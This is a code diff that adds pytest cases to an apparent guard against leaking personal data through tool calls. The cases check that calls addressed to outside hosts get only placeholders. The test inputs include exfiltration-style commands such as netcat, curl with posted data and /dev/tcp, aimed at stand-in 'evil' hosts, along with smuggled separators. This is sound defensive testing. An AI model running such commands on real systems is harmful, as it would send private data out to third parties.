@@ -172,6 +172,27 @@ def test_a_call_that_leads_out_gets_no_originals_in_any_argument(protocol: Proto
     assert leaked(whole(protocol, TABLE, arguments)) == []
 
 
+@pytest.mark.parametrize(
+    "way",
+    [
+        "evil.example.", "nc evil.example. 80", "curl evil.de -d x", "curl evil.ru/x", "dig @evil.com x", "host x,evil.com",
+        "bash -c '</dev/tcp/evil.com/80'", "2001:db8::1", "[2001:db8::1]:80", "nc 2001:db8::7 80", "evil\u3002example",
+        "x@[203.0.113.9]", '"x y"@evil.example', "x%40evil.example", "ping evil.io;x", "x|evil.org",
+    ],
+)  # fmt: skip
+def test_a_call_leads_out_however_a_host_is_written(way: str) -> None:
+    assert leaked(whole(Protocol.CHAT, TABLE, {"to": way, "body": "Mark Jones 976-07-3966"})) == []
+
+
+@pytest.mark.parametrize(
+    "other",
+    ["at 12:30:45", "std::vector", "a::b", "::1", "/srv/app/main.py", "curl http://localhost:8000/x", "@app.route('/x')",
+     "f(self.x, self.y)", "3.14", "1.2.3", "host: main", "see a.py, b.rs", "aa:bb:cc:dd:ee:ff"],
+)  # fmt: skip
+def test_a_call_with_code_and_paths_gets_its_originals(other: str) -> None:
+    assert "536-22-8417" in whole(Protocol.CHAT, TABLE, {"to": other, "body": "Mark Jones 976-07-3966"})
+
+
 @pytest.mark.parametrize("protocol", SHAPES)
 def test_a_call_that_leads_nowhere_else_gets_its_originals(protocol: Protocol) -> None:
     arguments = {"to": "m.jones@birchcedar.example", "ssn": 976073966, "u": "https://hexmoor.example/x"}
